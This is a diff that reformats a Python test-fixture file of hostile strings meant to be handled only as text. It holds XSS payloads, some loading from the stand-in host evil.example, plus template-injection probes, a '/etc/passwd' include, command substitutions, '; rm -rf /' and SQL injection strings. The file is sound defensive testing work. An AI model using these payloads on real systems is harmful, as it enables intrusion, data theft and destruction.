@@ -1,4 +1,6 @@
-"""Texts that a report, a title, an outlet, an address or a name may hold, and that must only ever be text."""
+"""Texts that a report, a title, an outlet, an address or a name may hold, and that must only ever
+be text.
+"""
 
 SCRIPT = [
     "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<ScRiPt src=//evil.example/x.js></sCrIpT>",
@@ -8,12 +10,14 @@ SCRIPT = [
     "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<video><source onerror=alert(1)>",
     "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>", "<math><mtext></mtext></math>",
     "<a href=javascript:alert(1)>x</a>", "<form action=//evil.example><input name=a>", "<base href=//evil.example/>",
-    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet href=//evil.example/x.css>",
+    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<link rel=stylesheet "
+                                                                "href=//evil.example/x.css>",
     "<style>*{display:none}</style>", "</style><script>alert(1)</script>", "<template><script>x</script></template>",
     "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<!--<script>alert(1)</script>-->",
     "--><script>alert(1)</script><!--", "<![CDATA[<script>alert(1)</script>]]>", "<?xml version='1.0'?>",
     "<marquee>x</marquee>", "<plaintext>", "<xmp>", "<textarea>", "</textarea><script>alert(1)</script>",
-    "<title>", "</title><script>alert(1)</script>", "<select>", "</select><img src=x onerror=alert(1)>",
+    "<title>", "</title><script>alert(1)</script>", "<select>", "</select><img src=x "
+                                                                "onerror=alert(1)>",
     "<table><tr><td>", "</td></tr></table>", "</main></body></html>", "</article></p></div>", "</h1><h1>Fake</h1>",
     "<bdi>", "</bdi></bdi></bdi>", "<p>", "</p>", "<br>", "<hr>",
 ]  # fmt: skip
@@ -32,7 +36,8 @@ ADDRESSES = [
     "ftp://a/", "https://a.example/\u202egnp.exe", "view-source:http://a", "intent://a", "x" * 3000,
 ]  # fmt: skip
 TEMPLATES = [
-    "{{7*7}}", "{{ config }}", "{{ ''.__class__.__mro__ }}", "{% for x in range(9) %}x{% endfor %}", "{% raw %}",
+    "{{7*7}}", "{{ config }}", "{{ ''.__class__.__mro__ }}", "{% for x in range(9) %}x{% endfor "
+                                                             "%}", "{% raw %}",
     "{% endraw %}", "{# note #}", "{% include '/etc/passwd' %}", "{% extends 'x' %}", "${7*7}", "#{7*7}", "<%= 7*7 %>",
     "{{", "}}", "{%", "%}", "{{ visit.form }}", "%(name)s", "%s%s%s%n", "{0}", "{name}", "{0.__class__}", "$(id)",
     "`id`", "; rm -rf /", "' OR 1=1 --", "'; DROP TABLE claim; --", '" OR ""="', "1) UNION SELECT 1", "NEAR(a b)",
